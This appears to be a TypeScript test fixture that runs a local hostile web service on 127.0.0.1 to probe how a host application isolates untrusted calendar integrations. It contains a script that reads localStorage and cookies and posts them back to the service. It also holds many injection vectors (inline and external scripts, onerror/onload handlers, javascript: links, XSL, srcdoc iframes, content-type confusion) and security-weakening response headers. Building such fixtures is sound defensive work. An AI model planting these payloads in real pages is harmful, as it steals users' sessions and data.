import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';

/** Sends what the page it runs in can reach to the service, and makes a call to another one. Runs as any kind of script. */
const steal = `
const loot = {};
try { loot.storage = JSON.stringify(localStorage); } catch (error) { loot.storage = String(error); }
try { loot.cookie = document.cookie; } catch (error) { loot.cookie = String(error); }
fetch('/api/calendar/loot', { method: 'POST', body: JSON.stringify(loot) });
fetch('/api/merch/steal', { method: 'POST' });
export default { mount() { return () => {}; } };
`;
const classicSteal = steal.replace(/export default.*/, '');

const tags = `
<script>${classicSteal}</script>
<script src="/api/calendar/steal.js"></script>
<script type="module" src="/api/calendar/steal.js"></script>
<link rel="stylesheet" href="/api/calendar/steal.css">
<img src="/nothing.png" onerror="${classicSteal.replaceAll('"', '&quot;')}">
<svg onload="${classicSteal.replaceAll('"', '&quot;')}"></svg>`;

const html = (body: string) =>
  `<!doctype html><html><head><title>Calendar</title></head><body>${body}${tags}</body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script href="/api/calendar/steal.js"/><script>${classicSteal}</script></svg>`;
const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><script src="/api/calendar/steal.js"></script><body>x</body></html>`;
const styled = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/api/calendar/steal.xsl"?><page/>`;
const transformation = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script src="/api/calendar/steal.js"></script></html></xsl:template></xsl:stylesheet>`;
const parts = `--b\r\ncontent-type: text/html\r\n\r\n${html('part')}\r\n--b--`;

interface Answer {
  readonly status?: number;
  readonly headers: Readonly<Record<string, string | string[]>>;
  readonly body?: string | Buffer;
}

const ofType = (type: string, body: string | Buffer, headers: Answer['headers'] = {}): Answer => ({
  headers: { 'content-type': type, ...headers },
  body,
});

/** All that it sends with every answer: what acts on the whole origin. */
const onEveryAnswer = {
  'set-cookie': ['stagedoor_device=theirs; Path=/', 'stagedoor_language=xx; Path=/'],
  'clear-site-data': '"*"',
  'service-worker-allowed': '/',
  'access-control-allow-origin': '*',
  'content-security-policy': "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'",
  'x-content-type-options': 'none',
  'cache-control': 'public, max-age=31536000, immutable',
};

/** A PDF of one empty page. */
const pdf = Buffer.from(
  `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]>>endobj
trailer<</Root 1 0 R>>
`,
);

const json = (data: unknown) => ofType('application/json', JSON.stringify({ success: true, data }));

const answers: Readonly<Record<string, Answer>> = {
  '/calendar/app/screen': json({
    version: 'a',
    hostVersion: 1,
    entry: '/api/calendar/app/files/screen.js',
    styles: [],
  }),
  '/calendar/app/files/screen.js': ofType('text/javascript', steal),
  '/calendar/steal.js': ofType('text/javascript', steal),
  '/calendar/worker.js': ofType('text/javascript', classicSteal.replace(/.*document.*/, '')),
  '/calendar/steal.css': ofType('text/css', '* { display: none }'),
  '/calendar/steal.xsl': ofType('text/xsl', transformation),
  '/calendar/page': ofType('text/html', html('A page')),
  '/calendar/frames': ofType(
    'text/html',
    html(
      '<iframe name="app" src="/settings"></iframe><iframe srcdoc="&lt;script src=/api/calendar/steal.js&gt;&lt;/script&gt;"></iframe>',
    ),
  ),
  '/calendar/leads-away': ofType(
    'text/html',
    html(`<meta http-equiv="refresh" content="0; url=/api/merch/steal">
      <a id="script" href="javascript:${encodeURIComponent(classicSteal)}">A script</a>
      <a id="opens" target="_blank" href="/api/merch/steal">A window</a>`),
    { refresh: '0; url=/api/merch/steal' },
  ),
  '/calendar/form': ofType(
    'text/html',
    html('<form method="post" action="/api/merch/steal"><button>Continue</button></form>'),
  ),
  '/calendar/file.html': ofType('text/html', html('A file'), {
    'content-disposition': 'attachment; filename="a.html"',
  }),
  '/calendar/data.json': json({ note: 'In a tab' }),
  '/calendar/invoice.pdf': ofType('application/pdf', pdf),
  '/calendar/types/svg': ofType('image/svg+xml', svg),
  '/calendar/types/xhtml': ofType('application/xhtml+xml', xhtml),
  '/calendar/types/xml': ofType('text/xml', styled),
  '/calendar/types/parts': ofType('multipart/x-mixed-replace; boundary=b', parts),
  '/calendar/types/none': { headers: {}, body: html('No type') },
  '/calendar/types/two': ofType('text/plain, text/html', html('Two types')),
  '/calendar/types/picture': ofType('image/png', html('A picture')),
  '/calendar/types/unknown': ofType('unknown/unknown', html('Unknown')),
};

/** What reached the service, or a neighbour of it. */
export interface HostileService {
  readonly url: string;
  /** What its scripts have sent to it. */
  readonly loot: string[];
  /** Requests to the other service, and to a site of another origin, by method and path. */
  readonly reached: string[];
  /** The headers of every request that came to it. */
  readonly seen: IncomingMessage['headers'][];
  /** Another service, which the service tries to reach through the browser. */
  readonly neighbourUrl: string;
  close(): Promise<void>;
}

/** Starts a business service of another repository that tries all it can, and the neighbour that it is after. */
export async function startHostileService(): Promise<HostileService> {
  const loot: string[] = [];
  const reached: string[] = [];
  const seen: IncomingMessage['headers'][] = [];
  const neighbour = await listen((request, response) => {
    if (request.url !== '/health/ready') reached.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"success":true,"data":null}');
  });
  const service = await listen(async (request, response) => {
    const [path = ''] = (request.url ?? '').split('?', 1);
    if (path === '/health/ready') return response.end('{}');
    seen.push(request.headers);
    if (path === '/calendar/loot') loot.push(await readBody(request));
    if (path.startsWith('/calendar/redirect/')) {
      const location = decodeURIComponent(path.slice('/calendar/redirect/'.length)).replace('SITE', neighbour.url);
      return response.writeHead(307, { ...onEveryAnswer, location }).end();
    }
    const { status = 200, headers, body } = answers[path] ?? json(null);
    return response.writeHead(status, { ...onEveryAnswer, ...headers }).end(body);
  });
  return {
    url: service.url,
    neighbourUrl: neighbour.url,
    loot,
    reached,
    seen,
    close: async () => void (await Promise.all([service.close(), neighbour.close()])),
  };
}

async function readBody(request: IncomingMessage): Promise<string> {
  const pieces: Buffer[] = [];
  for await (const piece of request) pieces.push(piece);
  return Buffer.concat(pieces).toString();
}

async function listen(handle: (request: IncomingMessage, response: ServerResponse) => unknown) {
  const server = createServer((request, response) => void handle(request, response));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const place = server.address();
  if (place === null || typeof place === 'string') throw new Error('the service listens on no port');
  return {
    url: `http://127.0.0.1:${place.port}`,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
